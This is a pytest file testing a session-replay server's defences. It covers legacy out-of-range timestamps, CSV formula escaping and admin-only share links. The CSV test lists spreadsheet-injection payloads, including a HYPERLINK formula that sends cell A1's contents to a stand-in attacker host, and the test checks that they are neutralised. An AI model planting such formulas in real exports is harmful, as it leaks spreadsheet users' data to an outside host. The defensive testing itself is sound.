"""Attacks on what people read, through the real server: values stored before ingest
refused them, recorded text shaped as a spreadsheet formula, and share links, each
beside an innocent recording of another project (tests/innocent.py) that stays exact."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from typing import Any

import pytest
from websockets.sync.client import connect
from websockets.typing import Origin

from replay.models import ApiToken, Session
from tests.innocent import Innocent
from tests.support import DaphneServer, batch, hello, load_recording, unpack
from tests.test_attacks import ALICE, BOB, event, get, strict_json
from tests.test_daphne import exported

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.scaleout]


def test_stored_timestamps_out_of_range_do_not_break_the_lists(daphne, alice, alices_shop, client):
    """Sessions stored before ingest refused such timestamps still list and open."""
    Session.objects.create(
        pk="session-from-before-1",
        project=alices_shop,
        first_event_ms=-(2**63),
        last_event_ms=2**63 - 1,
        acked_seq=0,
    )
    status, body = get(daphne, "/api/sessions", alice)
    assert status == 200
    listed = strict_json(body)["sessions"][0]
    assert (listed["id"], listed["started_at"], listed["ended_at"]) == (
        "session-from-before-1",
        None,
        None,
    )
    assert get(daphne, "/api/sessions/session-from-before-1", alice)[0] == 200
    client.force_login(alice)
    assert client.get("/sessions").status_code == 200
    assert client.get("/sessions/session-from-before-1").status_code == 200


def test_recorded_text_is_not_a_formula_in_the_csv(daphne, alice, alices_shop, bobs_blog, bob):
    from replay.records import track_session
    from replay.storage import get_storage

    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(1)"]
    page = load_recording("checkout")[:4]
    start = page[0]["timestamp"]
    custom = [
        event(start + 10 + i, {"tag": name, "payload": {}}) for i, name in enumerate(formulas)
    ]
    with Innocent(daphne.ws_url, bobs_blog.key, BOB) as innocent:
        with connect(daphne.ws_url, origin=Origin(ALICE), max_size=None) as ws:
            ws.send(hello(alices_shop.key))
            session = unpack(ws.recv(timeout=10))["session"]
            ws.send(batch(0, page + custom))
            assert unpack(ws.recv(timeout=10)) == {"type": "ack", "seq": 0}
        track_session(Session.objects.get(pk=session), get_storage())
        status, body = get(daphne, "/api/events?kind=custom&format=csv", alice)
    assert status == 200
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [row["name"] for row in rows] == ["'" + name for name in formulas]
    innocent.assert_untouched(exported(daphne, bob, innocent.session))


def api(server: DaphneServer, method: str, path: str, user: Any, body: Any) -> tuple[int, Any]:
    _, token = ApiToken.issue(user)
    request = urllib.request.Request(
        server.url + path,
        data=json.dumps(body).encode(),
        method=method,
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


def test_share_links_are_the_admins_to_make_and_stop_at_once(
    daphne, alice, alices_shop, bobs_blog, bob, django_user_model
):
    viewer = django_user_model.objects.create_user("victor", password="victor-password-1")
    alices_shop.members.add(viewer)
    recording = load_recording("checkout")
    with Innocent(daphne.ws_url, bobs_blog.key, BOB) as innocent:
        with connect(daphne.ws_url, origin=Origin(ALICE), max_size=None) as ws:
            ws.send(hello(alices_shop.key))
            session = unpack(ws.recv(timeout=10))["session"]
            ws.send(batch(0, recording))
            assert unpack(ws.recv(timeout=10)) == {"type": "ack", "seq": 0}
        path = f"/api/sessions/{session}/share"
        status, answer = api(daphne, "POST", path, viewer, {"start": 1, "end": 5})
        assert status == 403  # a viewer, in a project that keeps public links to admins
        for end in [1e308, "inf", "NaN", None]:
            status, answer = api(daphne, "POST", path, alice, {"start": 1, "end": end})
            assert status == (201 if end == 1e308 else 400), (end, answer)
        status, link = api(daphne, "POST", path, alice, {"start": 1, "end": 5})
        manifest = json.loads(
            urllib.request.urlopen(daphne.url + f"/s/{link['token']}/manifest").read()
        )
        with urllib.request.urlopen(daphne.url + manifest["segments"][0]["url"]) as response:
            assert response.headers["Cache-Control"] == "no-store"
    innocent.assert_untouched(exported(daphne, bob, innocent.session))
